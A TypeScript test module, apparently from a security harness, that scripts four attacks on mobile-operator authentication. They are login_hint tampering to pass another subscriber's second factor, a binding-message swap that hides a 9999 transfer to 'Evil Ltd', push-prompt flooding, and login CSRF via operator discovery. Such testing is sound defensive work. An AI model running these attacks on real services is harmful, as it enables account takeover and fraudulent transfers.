import { Visitor } from '../../packages/mobileconnect-simulator/test/support/visitor.js'
import { crossSiteNavigation, type Attack, type Site } from './attack.js'
import { postJson, type Call } from './target.js'

/** An app in which the mobile operator proves the second factor, and confirms transfers; and the phones of two subscribers of that operator. */
export interface OperatorTarget extends Site {
  /** A page for people who are logged in. */
  readonly guarded: string
  /** The post of the victim's right password. */
  readonly password: Call
  /** The post that begins with the operator. Answers JSON with `url`, or redirects there. */
  readonly begin: Call
  /** The callback's path. */
  readonly callback: string
  /** Asks for a transfer. 200: it is made. */
  readonly transfer: (payee: string, amount: string) => Call
  /** The post that begins the confirmation of the transfer which was asked for last, given the app's answer to it. */
  readonly confirm: (answer: unknown) => Call
  readonly phones: { readonly victim: Phone, readonly thief: Phone }
}

export interface Phone {
  readonly number: string
  /** What it shows now. */
  readonly prompts: () => Promise<string[]>
  /** Says yes to everything. */
  readonly approve: () => Promise<void>
}

/** A login that asks a discovery service for the visitor's operator, and begins without a password. */
export interface DiscoveryTarget extends Site {
  readonly guarded: string
  /** What begins it: a link. */
  readonly link: string
  readonly callback: string
  readonly attacker: Phone
}

const urlIn = async (response: Response): Promise<string> =>
  response.headers.get('location') ?? (await response.json().catch(() => ({})) as { url?: string }).url ?? ''

/** At the operator: types the number if a page asks for one, has the phones answer, and comes back with the address of the callback. */
async function atOperator(visitor: Visitor, address: string, stopAt: string, phone: Phone, number = phone.number): Promise<string | undefined> {
  let visit = await visitor.open(address, { stopAt })
  if (visit.text.includes('name="msisdn"')) visit = await visitor.submit(visit.url, { msisdn: number }, stopAt)
  await phone.approve()
  if (!visit.url.startsWith(stopAt)) visit = await visitor.open(visit.url, { stopAt })
  return visit.url.startsWith(stopAt) ? visit.url : undefined
}

/** What a thief makes of the address that the app sends their browser to. */
const edits: readonly ((query: URLSearchParams, number: string) => void)[] = [
  (query) => { query.delete('login_hint') },
  (query, number) => { query.set('login_hint', `MSISDN:${number.slice(1)}`) },
  (query, number) => { query.append('login_hint', `MSISDN:${number.slice(1)}`) },
  (query) => { query.delete('login_hint'); query.set('scope', 'openid mc_authn') },
]

export const operatorAttacks: readonly Attack<OperatorTarget>[] = [
  {
    id: 'C-01',
    hole: 'the thief\'s own phone passes the second factor of the victim',
    async succeeds(target) {
      const { thief } = target.phones
      for (const edit of edits) {
        const visitor = new Visitor()
        await postJson(visitor, target.url, target.password)
        const begun = await urlIn(await postJson(visitor, target.url, target.begin))
        if (begun === '') continue
        const address = new URL(begun)
        edit(address.searchParams, thief.number)
        const back = await atOperator(visitor, address.href, target.url + target.callback, thief)
        if (back !== undefined) await visitor.request(back, { headers: { accept: 'application/json' } })
        if ((await visitor.request(target.url + target.guarded)).status === 200) return true
      }
      return false
    },
  },
  {
    id: 'C-02',
    hole: 'the phone shows something else than what is confirmed',
    async succeeds(target) {
      const { victim } = target.phones
      const stop = target.url + target.callback
      const owner = new Visitor()
      await postJson(owner, target.url, target.password)
      const login = await urlIn(await postJson(owner, target.url, target.begin))
      const back = await atOperator(owner, login, stop, victim)
      if (back === undefined) return false
      await owner.request(back, { headers: { accept: 'application/json' } })

      const thief = owner.copy()
      const transfer = target.transfer('Evil Ltd', '9999')
      const asked: unknown = await (await postJson(thief, target.url, transfer)).json().catch(() => undefined)
      const begun = await urlIn(await postJson(thief, target.url, target.confirm(asked)))
      if (begun === '') return false
      const address = new URL(begun)
      for (const name of ['binding_message', 'context']) if (address.searchParams.has(name)) address.searchParams.set(name, 'Log in to Acme?')
      await thief.open(address.href, { stopAt: stop })
      const shown = await victim.prompts()
      const confirmed = await atOperator(thief, address.href, stop, victim)
      if (confirmed !== undefined) await thief.request(confirmed, { headers: { accept: 'application/json' } })
      const made = await postJson(thief, target.url, transfer)
      return made.status === 200 && !shown.some((prompt) => prompt.includes('9999') && prompt.includes('Evil Ltd'))
    },
  },
  {
    id: 'C-04',
    hole: 'a stolen password makes the victim\'s phone ring without end',
    async succeeds(target) {
      const thief = new Visitor()
      await postJson(thief, target.url, target.password)
      for (let turn = 0; turn < 20; turn += 1) {
        const begun = await urlIn(await postJson(thief, target.url, target.begin))
        if (begun !== '') await new Visitor().open(begun, { stopAt: target.url })
      }
      return (await target.phones.victim.prompts()).length > 10
    },
  },
]

export const discoveryAttacks: readonly Attack<DiscoveryTarget>[] = [
  {
    id: 'C-03',
    hole: 'a page of another site logs its visitor in as the attacker, by an operator that the attacker chose',
    async succeeds(target) {
      const stop = target.url + target.callback
      // The attacker goes as far as the choice of an operator, and keeps the address that leads back.
      const attacker = new Visitor()
      const selection = await attacker.open(target.url + target.link, { stopAt: stop, headers: { accept: 'text/html', 'sec-fetch-site': 'same-origin' } })
      const trap = await attacker.submit(selection.url, { msisdn: target.attacker.number }, stop)
      // Two navigations of the victim's window, and no click.
      const victim = new Visitor()
      await victim.request(target.url + target.link, { headers: crossSiteNavigation })
      const sent = await victim.request(trap.url, { headers: crossSiteNavigation })
      const begun = sent.headers.get('location')
      if (begun === null || new URL(begun, target.url).origin === target.url) return false
      const back = await atOperator(victim, begun, stop, target.attacker)
      if (back !== undefined) await victim.request(back, { headers: crossSiteNavigation })
      return (await victim.request(target.url + target.guarded)).status === 200
    },
  },
]
